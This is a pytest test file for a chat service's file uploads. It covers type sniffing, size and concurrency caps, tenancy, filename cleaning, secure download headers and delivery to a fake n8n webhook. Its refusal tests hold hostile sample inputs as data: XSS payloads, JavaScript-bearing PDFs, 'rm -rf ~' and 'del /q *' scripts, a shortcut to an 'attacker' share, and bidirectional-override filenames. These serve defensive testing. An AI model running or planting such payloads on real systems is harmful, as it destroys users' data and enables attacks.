"""Files in messages: upload limits and types, download headers, tenancy, attaching, the three deliveries to
the fake n8n, signed links, deletion with the chat, and a send without files touching no file table."""

from __future__ import annotations

import asyncio
import base64
import hashlib
import io
import json
import re
import uuid
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import asyncpg
import httpx
import pytest
from fastapi import FastAPI
from PIL import Image
from sqlalchemy import delete, event, select, text
from sqlalchemy.ext.asyncio import AsyncSession

from app.config import Settings
from app.db import Database, Direct
from app.models import File, FileBlob, Team
from app.services import blobs, fast_start
from app.services import files as files_service
from app.state import app_state
from main import create_app, shutdown
from tests.authhelpers import https_client
from tests.conftest import count_rows, make_settings, run_migrations
from tests.factories import auth_headers, create_agent, create_chat, create_user
from tests.live import ChatSetup, LiveServer, chat_with_agent, cut_off_request, data_events, free_port, parse_sse
from tests.test_stop_resume import live_settings
from tools.fake_n8n import FakeN8n


def image_bytes(fmt: str) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (4, 3), (200, 30, 30)).save(buffer, format=fmt)
    return buffer.getvalue()


PNG = image_bytes("PNG")
JPEG = image_bytes("JPEG")
GIF = image_bytes("GIF")
WEBP = image_bytes("WEBP")
PDF = b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"


def url_of(setup: ChatSetup) -> str:
    return f"/api/chats/{setup.chat.id}/files"


async def upload(
    client: httpx.AsyncClient,
    setup: ChatSetup,
    data: bytes,
    filename: str = "f.bin",
    content_type: str | None = "application/octet-stream",
) -> httpx.Response:
    part: tuple[Any, ...] = (filename, data) if content_type is None else (filename, data, content_type)
    return await client.post(url_of(setup), files={"file": part}, headers=setup.headers)


async def uploaded(
    client: httpx.AsyncClient, setup: ChatSetup, data: bytes = b"hello file", **kw: Any
) -> dict[str, Any]:
    response = await upload(client, setup, data, **kw)
    assert response.status_code == 201, response.text
    body: dict[str, Any] = response.json()
    return body


async def send(client: httpx.AsyncClient, setup: ChatSetup, body: dict[str, Any]) -> httpx.Response:
    return await client.post(f"/api/chats/{setup.chat.id}/messages", json=body, headers=setup.headers)


def events_of(response: httpx.Response) -> list[dict[str, Any]]:
    return [e.data for e in data_events(parse_sse(response.text)) if isinstance(e.data, dict)]


async def file_rows(app: FastAPI) -> list[File]:
    async with app_state(app).db.sessionmaker() as s:
        return list((await s.execute(select(File))).scalars())


@pytest.fixture
async def setup(session: AsyncSession, settings: Settings, fake: FakeN8n) -> ChatSetup:
    return await chat_with_agent(session, settings, fake.url + "/webhook/agent-stream")


# --- types -------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("data", "declared", "expected"),
    [
        (PNG, "image/png", "image/png"),
        (JPEG, "image/jpeg", "image/jpeg"),
        (JPEG, "image/jpg", "image/jpeg"),
        (GIF, "application/octet-stream", "image/gif"),
        (WEBP, "image/webp", "image/webp"),
        (PDF, "application/pdf", "application/pdf"),
        (b"plain words\n", "text/plain", "text/plain"),
        (b"# Title\n\nsome *markdown*\n", "text/markdown", "text/markdown"),
        (b"a,b\n1,2\n", "text/csv", "text/csv"),
        (b'{"a": [1, 2]}', "application/json", "application/json"),
        (b'\xef\xbb\xbf{"a": 1}', "application/json", "application/json"),  # a byte order mark (Windows tools)
        ("unicode ✓ text".encode(), None, "text/plain"),
        (b"2026-12-06 started\n", "text/x-log", "text/plain"),
    ],
)
async def test_upload_accepts_each_allowed_type_judged_by_content(
    client: httpx.AsyncClient, setup: ChatSetup, data: bytes, declared: str | None, expected: str
) -> None:
    body = await uploaded(client, setup, data, filename="whatever.bin", content_type=declared)
    assert body["content_type"] == expected
    assert body["size"] == len(data)
    assert body["sha256"] == hashlib.sha256(data).hexdigest()
    assert body["filename"] == "whatever.bin"
    assert set(body) == {"id", "filename", "content_type", "size", "sha256", "created_at"}
    got = await client.get(f"{url_of(setup)}/{body['id']}", headers=setup.headers)
    assert got.status_code == 200
    assert got.content == data


@pytest.mark.parametrize(
    ("data", "declared"),
    [
        (b"PK\x03\x04" + b"\x00" * 40, "application/zip"),  # a zip: neither allowed signature nor UTF-8 text
        (b"\xff\xfe\x00\x00binary", "application/octet-stream"),  # invalid UTF-8
        (b"text with a \x00 NUL", "text/plain"),
        (b"<!DOCTYPE html><html><body>hi</body></html>", "text/plain"),  # HTML declared as text
        (b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>", "image/svg+xml"),
        (b"notes\n<script>alert(1)</script>\n", "text/markdown"),  # script anywhere in text
        (b"just some words", "text/html"),  # a type outside the list, even with harmless content
        (b"just some words", "image/png"),  # declared an image, content is text
        (b"alert(1)", "application/javascript"),
        (b"body { color: red }", "text/css"),
        (b"a,b\n1,2\n", "application/pdf"),  # declared a PDF, content is text
        (PNG, "image/jpeg"),  # an image declared as another image
        (PNG, "text/plain"),  # an image declared as text
        (b"{not json", "application/json"),
        (PNG + b"<html><script>alert(1)</script>", "image/png"),  # a PNG with HTML appended
        (PDF.replace(b"%%EOF", b"<html><body>x</body></html>\n%%EOF"), "application/pdf"),  # HTML-sniffable PDF
        (PDF.replace(b"/Catalog", b"/Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >>"), None),
        # The same with the names spelt through PDF's #xx escapes.
        (PDF.replace(b"/Catalog", b"/Catalog /OpenAction << /S /JavaScr#69pt /J#53 (app.alert(1)) >>"), None),
        (b"%PDF-1.4\nno end marker", "application/pdf"),
        (b"\x89PNG\r\n\x1a\n" + b"garbage" * 10, "image/png"),  # a PNG signature over no PNG structure
        (b"<?xml version='1.0'?><x/>", "text/plain"),
    ],
)
async def test_upload_refuses_other_types_and_polyglots_with_415(
    app: FastAPI, client: httpx.AsyncClient, setup: ChatSetup, data: bytes, declared: str | None
) -> None:
    response = await upload(client, setup, data, content_type=declared)
    assert response.status_code == 415, response.text
    assert await file_rows(app) == []


#: A PDF with an action, its header a byte late: text to us, yet a PDF reader takes a header anywhere in the
#: first KiB and runs the action.
TEXT_PDF = b"\n%PDF-1.4\n1 0 obj << /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >> endobj\n%%EOF\n"


@pytest.mark.parametrize(
    ("data", "filename", "declared"),
    [
        (b"<img src=x onerror=alert(1)>", "page.html", "text/plain"),  # HTML without the listed tags
        (b"<p onclick=alert(1)>hi", "Page.HTM", "application/octet-stream"),
        (b"<b>hi</b>", "run.hta", "application/octet-stream"),  # an HTML application: mshta runs it
        # A namespaced SVG (no `<svg` in it).
        (b'<s:svg xmlns:s="http://www.w3.org/2000/svg" onload="alert(1)"/>', "logo.svg", "text/plain"),
        (b"<x:a xmlns:x='urn:x'/>", "feed.xml", "text/plain"),
        (b"alert(1)", "run.js", "text/plain"),
        (b"body { color: red }", "style.css", "text/plain"),
        (TEXT_PDF, "invoice.pdf", "application/octet-stream"),  # a PDF with JavaScript posing as text
        (PNG, "photo.html", "image/png"),  # an image named as a page
        (PNG, "report.pdf", "application/octet-stream"),  # an image named as another type
        (PDF, "report.png", "application/pdf"),
        (b"plain words", "photo.jpg", "text/plain"),  # text named as an image
        # Kept as `page.html ` (dots and spaces at the ends are stripped once each) or with an invisible
        # character at the end: a browser saving it, or Windows, drops what it ends with, and it is page.html.
        (b"<img src=x onerror=alert(1)>", "page.html .", "text/plain"),
        (b"<img src=x onerror=alert(1)>", "page.html. .", "text/plain"),
        (b"<img src=x onerror=alert(1)>", "page.html\u3000.", "text/plain"),
        (b"<img src=x onerror=alert(1)>", "page.html\ufeff", "text/plain"),
        (b"<img src=x onerror=alert(1)>", "page.html\u180e", "text/plain"),
        (b"<img src=x onerror=alert(1)>", "page.htm\u200bl", "text/plain"),
        (b"<img src=x onerror=alert(1)>", "\u200b.html", "text/plain"),  # only an invisible stem
        # Text that Windows, macOS or a Linux desktop runs as a program when the download is opened by name.
        (b"@echo off\r\ndel /q *\r\n", "setup.bat", "text/plain"),
        (b"del /q *", "Setup.CMD", "application/octet-stream"),
        (b"Remove-Item -Recurse ~", "fix.ps1", "text/plain"),
        (b'CreateObject("WScript.Shell").Run "calc"', "invoice.vbs", "text/plain"),
        (b"Windows Registry Editor Version 5.00\r\n", "tweak.reg", "text/plain"),
        (b"[InternetShortcut]\r\nURL=file://attacker/share/x.exe\r\n", "docs.url", "text/plain"),
        (b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR", "eicar.com", "application/octet-stream"),  # printable x86 code
        (b"#!/bin/sh\nrm -rf ~\n", "open-me.command", "text/plain"),  # macOS Finder runs it in Terminal
        (b"[Desktop Entry]\nExec=sh -c 'rm -rf ~'\n", "photos.desktop", "text/plain"),
        (b"@echo off", "setup.bat.", "text/plain"),  # saved as setup.bat
    ],
)
async def test_a_filename_naming_another_type_is_refused(
    app: FastAPI, client: httpx.AsyncClient, setup: ChatSetup, data: bytes, filename: str, declared: str | None
) -> None:
    """The name is kept and a download is saved under it: text saved as `page.html` or `logo.svg` opens as a
    page or an image that runs its script, a text PDF saved as `invoice.pdf` opens in a PDF reader. So the
    name's extension, when it names a type, must agree with the content, as the declared type must."""
    # (Always a declared type: httpx would otherwise declare one from the name.)
    response = await upload(client, setup, data, filename=filename, content_type=declared)
    assert response.status_code == 415, response.text
    # The reason names the extension and what to do (a browser declares the type the name says).
    assert response.json()["detail"].startswith("The file name's extension ."), response.text
    assert response.json()["detail"].endswith(": rename the file")
    assert await file_rows(app) == []


@pytest.mark.parametrize(
    ("data", "filename", "expected"),
    [
        (PNG, "Photo.PNG", "image/png"),
        (JPEG, "photo.jpeg", "image/jpeg"),
        (PDF, "report.pdf", "application/pdf"),
        (b"print(1)\n", "main.py", "text/plain"),  # an extension we do not know says nothing
        (b"#!/bin/sh\necho hi\n", "deploy.sh", "text/plain"),  # a script a double-click opens in an editor
        (b"@echo off", "setup.bat.txt", "text/plain"),  # what the refusal of setup.bat asks for
        (b"a,b\n1,2\n", "data.csv", "text/plain"),  # any text extension suits text
        (b"# notes", "notes.txt", "text/plain"),
        (b"no extension", "README", "text/plain"),
        (PNG, "scan", "image/png"),
    ],
)
async def test_a_filename_of_the_same_or_an_unknown_type_is_accepted(
    client: httpx.AsyncClient, setup: ChatSetup, data: bytes, filename: str, expected: str
) -> None:
    body = await uploaded(client, setup, data, filename=filename, content_type="application/octet-stream")
    assert (body["filename"], body["content_type"]) == (filename, expected)


@pytest.mark.parametrize(
    "declared",
    ["text/x-javascript", "text/jscript", "text/livescript", "text/x-ecmascript", "text/javascript1.5"],
)
async def test_text_declared_as_any_javascript_type_is_refused(
    app: FastAPI, client: httpx.AsyncClient, setup: ChatSetup, declared: str
) -> None:
    """Browsers run each of these as JavaScript (WHATWG's JavaScript MIME types), like `text/javascript`."""
    response = await upload(client, setup, b"alert(1)", filename="a.bin", content_type=declared)
    assert response.status_code == 415, response.text
    assert await file_rows(app) == []


@pytest.mark.settings(FILE_ALLOWED_TYPES="image/png,text/plain")
async def test_upload_allowlist_setting_narrows_the_types(client: httpx.AsyncClient, setup: ChatSetup) -> None:
    assert (await upload(client, setup, PDF, content_type="application/pdf")).status_code == 415
    assert (await upload(client, setup, b"a,b", content_type="text/csv")).status_code == 415
    assert (await upload(client, setup, b"a,b", content_type="text/plain")).status_code == 201


def test_allowlist_setting_refuses_unknown_types(settings: Settings) -> None:
    from app.config import ConfigError, load_settings

    with pytest.raises(ConfigError, match="FILE_ALLOWED_TYPES"):
        load_settings(_env_file=None, **{**settings.model_dump(), "FILE_ALLOWED_TYPES": "text/html"})


async def test_upload_bad_forms_are_refused_without_storing(
    app: FastAPI, client: httpx.AsyncClient, setup: ChatSetup
) -> None:
    not_multipart = await client.post(
        url_of(setup), content=b"raw", headers={**setup.headers, "content-type": "text/plain"}
    )
    assert not_multipart.status_code == 415
    wrong_field = await client.post(url_of(setup), files={"other": ("a.txt", b"x")}, headers=setup.headers)
    assert wrong_field.status_code == 422
    empty = await upload(client, setup, b"", content_type="text/plain")
    assert empty.status_code == 422
    two = await client.post(
        url_of(setup), files=[("file", ("a.txt", b"x")), ("file", ("b.txt", b"y"))], headers=setup.headers
    )
    assert two.status_code == 422
    assert two.json()["detail"][0]["msg"] == "Send one file per request"
    # A body cut off before its closing boundary is not a complete file.
    cut = b'--B\r\nContent-Disposition: form-data; name="file"; filename="a.txt"\r\n\r\nhalf a fi'
    truncated = await client.post(
        url_of(setup), content=cut, headers={**setup.headers, "content-type": "multipart/form-data; boundary=B"}
    )
    assert truncated.status_code == 422
    assert await file_rows(app) == []


async def test_upload_filename_is_cleaned_and_downloads_as_a_sandboxed_attachment(
    client: httpx.AsyncClient, setup: ChatSetup
) -> None:
    # A raw part header (httpx would percent-encode the control character): a Windows path, a tab.
    raw = (
        '--b\r\nContent-Disposition: form-data; name="file"; filename="C:\\fakepath\\../ré\tport.txt"\r\n'
        "Content-Type: text/plain\r\n\r\nhi\r\n--b--\r\n"
    ).encode()
    headers = {**setup.headers, "content-type": "multipart/form-data; boundary=b"}
    response = await client.post(url_of(setup), content=raw, headers=headers)
    assert response.status_code == 201, response.text
    body = response.json()
    assert body["filename"] == "ré_port.txt"
    got = await client.get(f"{url_of(setup)}/{body['id']}", headers=setup.headers)
    assert (
        got.headers["content-disposition"] == "attachment; filename=\"r__port.txt\"; filename*=UTF-8''r%C3%A9_port.txt"
    )
    assert got.headers["x-content-type-options"] == "nosniff"
    assert got.headers["content-security-policy"] == "default-src 'none'; sandbox"
    assert got.headers["content-type"].startswith("text/plain")
    assert got.headers["cache-control"] == "private, no-store"


@pytest.mark.parametrize(
    ("data", "declared"),
    [(PNG, "image/png"), (PDF, "application/pdf"), (b"a,b\n1,2\n", "text/csv"), (b'{"a": 1}', "application/json")],
)
async def test_a_download_is_served_under_a_media_type_its_schema_documents(
    app: FastAPI, client: httpx.AsyncClient, setup: ChatSetup, data: bytes, declared: str
) -> None:
    """The downloads (the owner's, a share's, n8n's signed link) answer the file's own type; their 200 documented
    `application/octet-stream` only (schemathesis: an undocumented Content-Type)."""
    body = await uploaded(client, setup, data, content_type=declared)
    got = await client.get(f"{url_of(setup)}/{body['id']}", headers=setup.headers)
    assert got.status_code == 200
    sent = got.headers["content-type"].split(";", 1)[0]
    assert sent == declared
    paths = app.openapi()["paths"]
    for path in (
        "/api/chats/{chat_id}/files/{file_id}",
        "/api/shares/{share_id}/files/{file_id}",
        "/api/files/signed/{generation_id}/{file_id}/{signature}",
    ):
        documented = paths[path]["get"]["responses"]["200"]["content"]
        assert sent in documented, (path, list(documented))
        assert documented[sent]["schema"] == {"type": "string", "format": "binary"}


@pytest.mark.parametrize("control", ["\u202e", "\u202d", "\u2066", "\u2067", "\u2068", "\u2069", "\u200f", "\u061c"])
async def test_a_filename_cannot_reorder_how_it_displays(
    client: httpx.AsyncClient, setup: ChatSetup, control: str
) -> None:
    """A right-to-left override makes `invoice<RLO>fdp.exe` show as `invoiceexe.pdf` to whoever sees the file
    (a share's readers too): bidirectional controls are replaced like other control characters."""
    body = await uploaded(client, setup, b"hi", filename=f"invoice{control}fdp.txt", content_type="text/plain")
    assert body["filename"] == "invoice_fdp.txt"


@pytest.mark.parametrize("control", ["\x80", "\x85", "\x9b", "\x9f"])
async def test_a_filename_loses_c1_control_characters_too(
    client: httpx.AsyncClient, setup: ChatSetup, control: str
) -> None:
    """U+0080-U+009F are control characters as much as U+0000-U+001F (U+0085 is a line break, U+009B a
    terminal's escape sequence start): replaced like them."""
    body = await uploaded(client, setup, b"hi", filename=f"a{control}b.txt", content_type="text/plain")
    assert body["filename"] == "a_b.txt"


# --- size limits ------------------------------------------------------------------------------------


@pytest.mark.settings(FILE_MAX_BYTES=4096)
async def test_upload_over_the_limit_by_content_length_is_413_before_reading(
    app: FastAPI, client: httpx.AsyncClient, setup: ChatSetup
) -> None:
    consumed = 0

    async def body() -> AsyncIterator[bytes]:
        nonlocal consumed
        for _ in range(100):
            consumed += 1
            yield b"x" * 65536

    headers = {**setup.headers, "content-type": "multipart/form-data; boundary=b", "content-length": str(100 * 65536)}
    response = await client.post(url_of(setup), content=body(), headers=headers)
    assert response.status_code == 413
    assert response.json() == {"detail": "Request body too large"}
    assert consumed <= 1  # refused on its Content-Length: the body was not read
    assert await file_rows(app) == []


@pytest.mark.settings(FILE_MAX_BYTES=4096)
async def test_upload_chunked_body_is_counted_as_it_arrives_and_refused_early(
    app: FastAPI, client: httpx.AsyncClient, setup: ChatSetup
) -> None:
    sent = 0
    head = b'--b\r\nContent-Disposition: form-data; name="file"; filename="big.txt"\r\nContent-Type: text/plain\r\n\r\n'

    async def body() -> AsyncIterator[bytes]:
        nonlocal sent
        yield head
        for _ in range(1000):  # 1 MB if it were all read
            sent += 1024
            yield b"y" * 1024

    headers = {**setup.headers, "content-type": "multipart/form-data; boundary=b"}  # no length: chunked
    response = await client.post(url_of(setup), content=body(), headers=headers)
    assert response.status_code == 413
    assert response.json() == {"detail": "The file is larger than 4096 bytes"}
    assert sent <= 4096 + 2 * 1024  # stopped right after the file part passed the cap
    assert await file_rows(app) == []


@pytest.mark.settings(FILE_MAX_BYTES=4096)
async def test_upload_exactly_at_the_limit_is_accepted(client: httpx.AsyncClient, setup: ChatSetup) -> None:
    assert (await upload(client, setup, b"z" * 4096, content_type="text/plain")).status_code == 201
    assert (await upload(client, setup, b"z" * 4097, content_type="text/plain")).status_code == 413


# --- caps under concurrency ---------------------------------------------------------------------------


@pytest.mark.settings(FILES_UNSENT_PER_CHAT_MAX=3, FILE_UPLOADS_PER_USER=10)
async def test_concurrent_uploads_never_pass_the_unsent_cap(
    app: FastAPI, client: httpx.AsyncClient, setup: ChatSetup
) -> None:
    # Six at once, each its own content: the lock on the chat makes them count one after the other.
    responses = await asyncio.gather(*(upload(client, setup, f"n{i}".encode(), content_type=None) for i in range(6)))
    assert sorted(r.status_code for r in responses) == [201, 201, 201, 409, 409, 409]
    assert len(await file_rows(app)) == 3


@pytest.mark.parametrize(
    "caps", [{"FILES_UNSENT_PER_CHAT_MAX": 3}, {"FILES_PER_CHAT_MAX": 3}], ids=["unsent-cap", "chat-cap"]
)
async def test_concurrent_uploads_never_pass_a_cap_on_sqlite(tmp_path: Path, caps: dict[str, int]) -> None:
    """The embedded database takes no row locks (SELECT ... FOR UPDATE is a plain read there): eight uploads
    at once all counted the chat before any stored, and all eight were stored past a cap of 3."""
    url = f"sqlite+aiosqlite:///{tmp_path / 'files.db'}"
    await asyncio.to_thread(run_migrations, url)
    settings = make_settings(url, tmp_path, FILE_UPLOADS_PER_USER=20, **caps)
    lite = create_app(settings)
    try:
        async with app_state(lite).db.sessionmaker() as s:
            user = await create_user(s)
            agent = await create_agent(s, team=await s.get_one(Team, user.team_id))
            chat = await create_chat(s, user=user, agent=agent)
        async with https_client(lite) as client:
            answers = await asyncio.gather(
                *(
                    client.post(
                        f"/api/chats/{chat.id}/files",
                        files={"file": ("a.txt", f"n{i}".encode(), "text/plain")},
                        headers=auth_headers(settings, user),
                    )
                    for i in range(8)
                )
            )
        assert sorted(a.status_code for a in answers) == [201] * 3 + [409] * 5
        assert len(await file_rows(lite)) == 3
    finally:
        await shutdown(lite)


@pytest.mark.settings(FILES_PER_CHAT_MAX=2, FILES_UNSENT_PER_CHAT_MAX=5)
async def test_upload_past_the_chat_cap_is_409(client: httpx.AsyncClient, setup: ChatSetup) -> None:
    for i in range(2):
        await uploaded(client, setup, f"c{i}".encode())
    refused = await upload(client, setup, b"c3")
    assert refused.status_code == 409
    assert refused.json() == {"detail": "This chat holds the most files allowed (2)"}


@pytest.mark.settings(FILE_UPLOADS_PER_USER=2)
async def test_concurrent_uploads_per_user_are_capped_with_429(
    app: FastAPI, client: httpx.AsyncClient, setup: ChatSetup
) -> None:
    release = asyncio.Event()
    started = asyncio.Semaphore(0)
    head = b'--b\r\nContent-Disposition: form-data; name="file"; filename="s.txt"\r\n\r\n'

    async def slow_body() -> AsyncIterator[bytes]:
        yield head + b"slow"
        started.release()
        await release.wait()
        yield b" upload\r\n--b--\r\n"

    headers = {**setup.headers, "content-type": "multipart/form-data; boundary=b"}
    slow = [asyncio.create_task(client.post(url_of(setup), content=slow_body(), headers=headers)) for _ in range(2)]
    for _ in range(2):
        await asyncio.wait_for(started.acquire(), 5)
    await asyncio.sleep(0.05)  # both are now inside the upload, reading their bodies
    third = await upload(client, setup, b"third")
    assert third.status_code == 429
    assert third.headers["Retry-After"] == "1"  # every 429 says when to come back (was missing here)
    release.set()
    assert [r.status_code for r in await asyncio.gather(*slow)] == [201, 201]
    assert (await upload(client, setup, b"fourth")).status_code == 201  # slots are given back
    assert len(await file_rows(app)) == 3


@pytest.mark.settings(DB_POOL_SIZE=1, DB_MAX_OVERFLOW=0)
async def test_a_file_request_holds_one_pooled_connection_and_none_while_its_body_arrives(
    app: FastAPI, client: httpx.AsyncClient, setup: ChatSetup
) -> None:
    """The caller's lookup and the file's work ran in two sessions, the first holding its connection to the end:
    two connections a request, one of them held while an upload's body arrived. Once every connection was
    held by a lookup, every request waited for a second one: 503s after the pool timeout (on SQLite's pool of
    15, sixteen uploads or downloads at once). With a pool of one, each must still answer at once."""
    release = asyncio.Event()
    started = asyncio.Event()
    head = b'--b\r\nContent-Disposition: form-data; name="file"; filename="s.txt"\r\n\r\n'

    async def slow_body() -> AsyncIterator[bytes]:
        yield head + b"slow"
        started.set()
        await release.wait()
        yield b" upload\r\n--b--\r\n"

    headers = {**setup.headers, "content-type": "multipart/form-data; boundary=b"}
    slow = asyncio.create_task(client.post(url_of(setup), content=slow_body(), headers=headers))
    try:
        await asyncio.wait_for(started.wait(), 5)
        await asyncio.sleep(0.05)  # inside the upload, reading its body
        assert app_state(app).db.pool_in_use() == 0
    finally:
        release.set()
        if not started.is_set():
            slow.cancel()  # stuck waiting for a second connection: not left behind
    stored = await asyncio.wait_for(slow, 5)
    assert stored.status_code == 201, stored.text
    file_url = f"{url_of(setup)}/{stored.json()['id']}"
    downloaded = await asyncio.wait_for(client.get(file_url, headers=setup.headers), 5)
    assert downloaded.content == b"slow upload"
    deleted = await asyncio.wait_for(client.delete(file_url, headers=setup.headers), 5)
    assert deleted.status_code == 204
    assert await file_rows(app) == []


# --- tenancy -------------------------------------------------------------------------------------------


async def test_files_of_another_user_or_team_are_404(
    app: FastAPI, client: httpx.AsyncClient, session: AsyncSession, settings: Settings, setup: ChatSetup
) -> None:
    mine = await uploaded(client, setup, b"secret notes")
    team = await session.get(Team, setup.user.team_id)
    assert team is not None
    colleague = await create_user(session, team=team)
    stranger_setup = await chat_with_agent(session, settings, setup.agent.webhook_url)
    for other in (auth_headers(settings, colleague), stranger_setup.headers):
        assert (await client.get(f"{url_of(setup)}/{mine['id']}", headers=other)).status_code == 404
        refused = await client.post(url_of(setup), files={"file": ("x.txt", b"x")}, headers=other)
        assert refused.status_code == 404
    # My own file read through another of my chats: 404 too.
    other_chat = await create_chat(session, user=setup.user, agent=setup.agent)
    assert (
        await client.get(f"/api/chats/{other_chat.id}/files/{mine['id']}", headers=setup.headers)
    ).status_code == 404
    assert (await client.get(f"{url_of(setup)}/{uuid.uuid4()}", headers=setup.headers)).status_code == 404
    assert (
        await client.post(f"/api/chats/{uuid.uuid4()}/files", files={"file": ("x", b"x")}, headers=setup.headers)
    ).status_code == 404
    assert len(await file_rows(app)) == 1


async def test_sending_another_chats_file_is_422_and_stores_nothing(
    app: FastAPI, client: httpx.AsyncClient, session: AsyncSession, setup: ChatSetup
) -> None:
    other_chat = await create_chat(session, user=setup.user, agent=setup.agent)
    other = ChatSetup(setup.user, setup.agent, other_chat, setup.headers)
    theirs = await uploaded(client, other, b"other chat's")
    before = await count_rows(session, "messages")
    response = await send(client, setup, {"content": "look", "file_ids": [theirs["id"]]})
    assert response.status_code == 422
    assert response.json()["detail"][0]["msg"] == files_service.FILE_IDS_INVALID
    assert await count_rows(session, "messages") == before
    assert all(f.message_id is None for f in await file_rows(app))


# --- attaching to messages ----------------------------------------------------------------------------


async def test_send_with_files_shows_them_everywhere_and_marks_them_sent(
    client: httpx.AsyncClient, setup: ChatSetup
) -> None:
    first = await uploaded(client, setup, PNG, filename="a.png", content_type="image/png")
    second = await uploaded(client, setup, b"a,b\n", filename="b.csv", content_type="text/csv")
    response = await send(client, setup, {"content": "two files", "file_ids": [second["id"], first["id"]]})
    assert response.status_code == 200
    events = events_of(response)
    user_message = events[0]["data"]["user_message"]
    assert user_message["files"] == [second, first]  # in the order sent
    assert events[-1]["type"] == "done"
    assert events[-1]["data"]["message"]["files"] == []
    chat = (await client.get(f"/api/chats/{setup.chat.id}", headers=setup.headers)).json()
    assert chat["messages"][0]["files"] == [second, first]
    listed = (await client.get(f"/api/chats/{setup.chat.id}/messages", headers=setup.headers)).json()
    assert listed[0]["files"] == [second, first]
    # Sent once: the same id again is refused, and nothing is stored.
    again = await send(client, setup, {"content": "again", "file_ids": [first["id"]]})
    assert again.status_code == 422
    assert len((await client.get(f"/api/chats/{setup.chat.id}/messages", headers=setup.headers)).json()) == 2


@pytest.mark.settings(FILES_PER_MESSAGE_MAX=2)
async def test_send_file_ids_rules(
    app: FastAPI, client: httpx.AsyncClient, setup: ChatSetup, session: AsyncSession
) -> None:
    ids = [(await uploaded(client, setup, f"f{i}".encode()))["id"] for i in range(3)]
    before = await count_rows(session, "messages")
    too_many = await send(client, setup, {"content": "x", "file_ids": ids})
    assert too_many.status_code == 422
    assert too_many.json()["detail"][0]["msg"] == "A message carries at most 2 files"
    repeated = await send(client, setup, {"content": "x", "file_ids": [ids[0], ids[0]]})
    assert repeated.status_code == 422
    assert (await send(client, setup, {"content": "x", "file_ids": None})).status_code == 422
    assert (await send(client, setup, {"content": "x", "file_ids": ["not-a-uuid"]})).status_code == 422
    answer = (await send(client, setup, {"content": "x"})).text
    assistant = next(e for e in events_of_text(answer) if e["type"] == "done")["data"]["message"]["id"]
    with_regenerate = await send(client, setup, {"regenerate_of": assistant, "file_ids": [ids[0]]})
    assert with_regenerate.status_code == 422
    assert await count_rows(session, "messages") == before + 2
    assert all(f.message_id is None for f in await file_rows(app))


def events_of_text(text: str) -> list[dict[str, Any]]:
    return [e.data for e in data_events(parse_sse(text)) if isinstance(e.data, dict)]


async def test_edit_may_keep_the_edited_messages_files_and_add_new_ones(
    client: httpx.AsyncClient, setup: ChatSetup
) -> None:
    kept = await uploaded(client, setup, b"kept")
    first = await send(client, setup, {"content": "v1", "file_ids": [kept["id"]]})
    question = events_of(first)[0]["data"]["user_message"]
    added = await uploaded(client, setup, b"added")
    edit = await send(
        client, setup, {"content": "v2", "edit_of": question["id"], "file_ids": [kept["id"], added["id"]]}
    )
    assert edit.status_code == 200
    assert events_of(edit)[0]["data"]["user_message"]["files"] == [kept, added]
    # An edit without file_ids carries none.
    bare = await send(client, setup, {"content": "v3", "edit_of": question["id"]})
    assert events_of(bare)[0]["data"]["user_message"]["files"] == []


# --- delivery to n8n --------------------------------------------------------------------------------------


async def agent_mode(session: AsyncSession, setup: ChatSetup, mode: str, url: str | None = None) -> None:
    setup.agent.file_delivery = mode
    if url is not None:
        setup.agent.webhook_url = url
    session.add(setup.agent)
    await session.commit()


async def test_base64_delivery_inlines_the_bytes_and_regenerate_resends_them(
    client: httpx.AsyncClient, session: AsyncSession, setup: ChatSetup, fake: FakeN8n
) -> None:
    await agent_mode(session, setup, "base64")
    sent = await uploaded(client, setup, PNG, filename="p.png", content_type="image/png")
    response = await send(client, setup, {"content": "see image", "file_ids": [sent["id"]]})
    done = events_of(response)[-1]
    assert done["type"] == "done"
    body = fake.requests[-1]["json"]
    assert body["chatInput"] == "see image"
    [entry] = body["files"]
    assert {k: entry[k] for k in ("id", "filename", "mimeType", "size")} == {
        "id": sent["id"],
        "filename": "p.png",
        "mimeType": "image/png",
        "size": len(PNG),
    }
    assert base64.b64decode(entry["data"]) == PNG
    assert "url" not in entry
    regenerated = await send(client, setup, {"regenerate_of": done["data"]["message"]["id"]})
    assert events_of(regenerated)[-1]["type"] == "done"
    assert base64.b64decode(fake.requests[-1]["json"]["files"][0]["data"]) == PNG


@pytest.mark.settings(FILE_INLINE_MAX_BYTES=1024)
@pytest.mark.parametrize("mode", ["base64", "url"])  # `url` without PUBLIC_BASE_URL goes inline too
async def test_inline_delivery_refuses_large_files_with_422_before_storing(
    app: FastAPI, client: httpx.AsyncClient, session: AsyncSession, setup: ChatSetup, fake: FakeN8n, mode: str
) -> None:
    await agent_mode(session, setup, mode)
    small = await uploaded(client, setup, b"s" * 1024)
    large = await uploaded(client, setup, b"L" * 1025)
    before = await count_rows(session, "messages")
    refused = await send(client, setup, {"content": "x", "file_ids": [small["id"], large["id"]]})
    assert refused.status_code == 422
    assert "too large to send to this agent inline" in refused.json()["detail"][0]["msg"]
    assert await count_rows(session, "messages") == before
    assert all(f.message_id is None for f in await file_rows(app))
    assert fake.requests == []
    ok = await send(client, setup, {"content": "x", "file_ids": [small["id"]]})
    assert events_of(ok)[-1]["type"] == "done"
    assert base64.b64decode(fake.requests[-1]["json"]["files"][0]["data"]) == b"s" * 1024


async def test_multipart_delivery_is_what_the_chat_trigger_gets_from_its_widget(
    client: httpx.AsyncClient, session: AsyncSession, setup: ChatSetup, fake: FakeN8n
) -> None:
    await agent_mode(session, setup, "multipart", url=fake.url + "/webhook/abc/chat")
    one = await uploaded(client, setup, PNG, filename="ré.png", content_type="image/png")
    two = await uploaded(client, setup, b"a,b\n1,2\n", filename="t.csv", content_type="text/csv")
    response = await send(client, setup, {"content": "read these", "file_ids": [one["id"], two["id"]]})
    events = events_of(response)
    assert events[-1]["type"] == "done"
    assert events[-1]["data"]["message"]["content"] == "Echo: read these"  # the fake read chatInput from the form
    request = fake.requests[-1]
    assert request["headers"]["Content-Type"].startswith("multipart/form-data; boundary=")
    form = request["form"]
    assert form["action"] == "sendMessage"
